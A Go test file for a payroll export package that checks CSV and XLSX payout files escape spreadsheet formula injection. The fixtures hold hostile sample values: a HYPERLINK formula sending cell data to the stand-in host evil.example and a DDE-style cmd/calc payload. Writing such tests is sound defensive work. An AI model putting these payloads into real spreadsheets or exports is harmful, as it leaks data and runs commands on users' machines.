package payroll_test

import (
	"bytes"
	"testing"

	"github.com/shopspring/decimal"
	"github.com/xuri/excelize/v2"

	"attain/app/payroll"
)

// payoutsWithFormulas holds text a person typed that a spreadsheet would
// run as a formula, and a negative payout (a clawback) that must stay a
// number.
var payoutsWithFormulas = []payroll.Payout{
	{EmployeeID: "=1+1", Name: `=HYPERLINK("http://evil.example/?"&A1,"x")`, Currency: "EUR", Plan: "@plan", Payout: decimal.RequireFromString("-120.5"), Places: 2, Status: "draft", Period: "2026-06"},
	{EmployeeID: "bob", Name: "+49 170", Currency: "EUR", Plan: "-cmd|' /C calc'!A0", Payout: decimal.RequireFromString("1000"), Places: 2, Status: "draft", Period: "2026-06"},
}

func TestWritePayoutsCSV_FormulaInjection(t *testing.T) {
	var buf bytes.Buffer
	if err := payroll.WritePayoutsCSV(&buf, payoutsWithFormulas); err != nil {
		t.Fatal(err)
	}
	want := "employee_id,name,currency,plan,payout,status,period\n" +
		"'=1+1,\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"x\"\")\",EUR,'@plan,-120.50,draft,2026-06\n" +
		"bob,'+49 170,EUR,'-cmd|' /C calc'!A0,1000.00,draft,2026-06\n" +
		",total,EUR,,879.50,total,2026-06\n"
	if got := buf.String(); got != want {
		t.Errorf("payouts CSV:\n%s\nwant:\n%s", got, want)
	}
}

func TestWritePayoutsXLSX_FormulaInjection(t *testing.T) {
	var buf bytes.Buffer
	if err := payroll.WritePayoutsXLSX(&buf, payoutsWithFormulas); err != nil {
		t.Fatal(err)
	}
	x, err := excelize.OpenReader(&buf)
	if err != nil {
		t.Fatal(err)
	}
	defer x.Close()
	for cell, want := range map[string]string{
		"A2": "'=1+1", "B2": `'=HYPERLINK("http://evil.example/?"&A1,"x")`, "D2": "'@plan",
		"B3": "'+49 170", "D3": "'-cmd|' /C calc'!A0", "A3": "bob",
	} {
		got, err := x.GetCellValue("Payouts", cell)
		if err != nil || got != want {
			t.Errorf("%s = %q (%v), want %q", cell, got, err, want)
		}
		if f, _ := x.GetCellFormula("Payouts", cell); f != "" {
			t.Errorf("%s has formula %q", cell, f)
		}
	}
	// The negative payout is a number cell, not text.
	got, err := x.GetCellValue("Payouts", "E2", excelize.Options{RawCellValue: true})
	if err != nil || got != "-120.50" {
		t.Errorf("E2 = %q (%v), want -120.50", got, err)
	}
	if typ, err := x.GetCellType("Payouts", "E2"); err != nil || typ != excelize.CellTypeUnset {
		t.Errorf("E2 has type %v (%v), want a number (no type)", typ, err)
	}
}
